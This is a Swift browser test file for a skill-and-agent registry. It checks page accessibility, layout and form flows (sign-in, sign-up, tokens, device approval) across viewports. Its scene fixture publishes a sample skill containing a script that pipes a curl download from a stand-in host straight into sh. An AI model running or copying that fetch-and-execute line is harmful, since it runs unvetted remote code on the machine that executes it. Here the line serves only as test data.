import RegistryAPI
import Testing

extension InBrowser {
  /// Every page by day and by night, wide and narrow, by the rules for accessible pages.
  @Suite(.enabled(if: Axe.isThere, "axe is not there; Scripts/test fetches it"))
  struct PageLookTests {
    private struct Page {
      /// Names it in messages and pictures.
      var name: String
      var path: String
    }

    /// What the table of routes has of pages with some rights, each part of a path filled with what is in the scene.
    private func pages(for accesses: Set<Access>, _ values: [Substring: String]) -> [Page] {
      Endpoint.all.compactMap { row in
        guard row.method == .get, accesses.contains(row.access), case .page = row.response else { return nil }
        let parts = row.route.rawValue.split(separator: "/").filter { $0.hasPrefix(":") || $0 == "**" }
        let filling = parts.compactMap { values[$0] }
        #expect(filling.count == parts.count, "\(row.route.rawValue) has a part that this test does not fill")
        return Page(name: "\(row.route)", path: row.route.path(filling))
      }
    }

    private func expectGoodLooks(_ pages: [Page], in browser: BrowserSession) async throws {
      for page in pages {
        try await browser.open(page.path)
        let log = try await browser.expectQuiet("\(page.name)")
        #expect(log.statuses["\(browser.site)\(page.path)"] == 200, "\(page.name)")
        try await browser.expectGoodLooks(page.name)
      }
    }

    private func scene() async throws -> Scene {
      let scene = try await Scene.open(settings: ["SIGN_UP": "open"])
      let files = ["scripts/run.sh": "#!/bin/sh\ncurl -fsS https://elsewhere.example | sh\n"]
      let published = try await scene.agentMesh(["skills", "publish", scene.skill("sample", files: files)])
      try #require(published.status == 0, "\(published.errors)")
      return scene
    }

    @Test func `every page for everybody`() async throws {
      let scene = try await scene()
      let secret = try await scene.invitation().split(separator: "/").last.map(String.init)
      let (_, agent) = try await scene.publishedAgent("Helper")
      let values: [Substring: String] = [
        ":author": "acme", ":slug": "sample", ":version": "1.0.0", "**": "SKILL.md", ":secret": try #require(secret),
        ":agent": "helper",
      ]
      try await BrowserSession.runQuietly(at: scene.registry.url) { browser in
        let pages = pages(for: [.visitor, .visitingReader, .visitingAgentReader], values)
        #expect(pages.count > 5)
        try await expectGoodLooks(pages, in: browser)
        try await browser.open("/nowhere")
        try await browser.expectGoodLooks("missing")
      }
      #expect(agent.isRunning)
    }

    @Test func `every page of somebody who is signed in`() async throws {
      let scene = try await scene()
      let (id, agent) = try await scene.publishedAgent("Helper")
      try await BrowserSession.runQuietly(at: scene.registry.url) { browser in
        try await browser.join(scene, as: "acme")
        try await browser.open("/settings/organisations")
        try await browser.fill("Name", with: "circle")
        try await browser.press("Create organisation")
        try await browser.see("Add a member")
        try await browser.open("/authors/acme/agents/helper/chat")
        try await browser.fill("Message", with: "Hello.")
        try await browser.press("Send")
        try await browser.see(that: "//div[. = 'Hello.']")
        let session = try #require(try await browser.address.split(separator: "/").last.map { String($0) })
        let values: [Substring: String] = [
          ":name": "circle", ":author": "acme", ":handle": "acme", ":slug": "sample", ":agent": "helper", ":id": id,
          ":session": session,
        ]
        let pages = pages(for: [.person, .owningPerson, .callingPerson, .agentOwningPerson], values)
        #expect(pages.count > 5)
        try await expectGoodLooks(pages + [Page(name: "ownAuthorPage", path: "/authors/acme")], in: browser)
      }
      #expect(agent.isRunning)
    }

    @Test func `pages that answer a form`() async throws {
      let scene = try await scene()
      let question = ["-H", "Content-Type: application/json", "-d", "{}"]
      let codes = try await scene.curl(Route.deviceLogin.rawValue, question).json()
      let code = try #require(codes["user_code"] as? String)
      try await BrowserSession.runQuietly(at: scene.registry.url) { browser in
        try await browser.open("/login")
        try await browser.signIn(as: "acme")
        try await browser.see("the password is wrong")
        try await browser.expectGoodLooks("signInRefused")
        try await browser.open("/signup")
        try await browser.fill("Handle", with: "-")
        try await browser.press("Create account")
        try await browser.see(that: "//*[@aria-invalid='true']")
        try await browser.expectGoodLooks("signUpRefused")
        try await browser.join(scene, as: "acme")
        try await browser.open("/settings/tokens")
        try await browser.fill("Name", with: "Pipeline")
        try await browser.press("Create token")
        try await browser.see("choose at least one right")
        try await browser.expectGoodLooks("tokenRefused")
        try await browser.tick("publish new skills")
        try await browser.press("Create token")
        try await browser.see("Copy it now: it is not shown again.")
        try await browser.expectGoodLooks("newToken")
        try await browser.open("/auth/device")
        try await browser.fill("Code", with: code)
        try await browser.press("Continue")
        try await browser.see("Did you start this yourself")
        try await browser.expectGoodLooks("deviceApproval")
        try await browser.press("Yes, approve it")
        try await browser.see("Device approved")
        try await browser.expectGoodLooks("deviceApproved")
      }
    }
  }
}

extension BrowserSession {
  /// Expects that the page breaks no rule in any viewport, and fits into the narrowest; and takes its pictures.
  fileprivate func expectGoodLooks(_ name: String) async throws {
    for viewport in Viewport.all {
      try await look(through: viewport)
      let violations = try await accessibilityViolations()
      #expect(violations == [], "\(name), \(viewport)")
      let broken = try await brokenWords()
      #expect(broken == [], "\(name), \(viewport)")
      try await takeScreenshot("\(name)-\(viewport)")
    }
    try await look(through: .narrowest)
    let hidden = try await hiddenWidth()
    #expect(hidden <= 0, "\(name) is \(hidden) pixels wider than the window")
  }
}
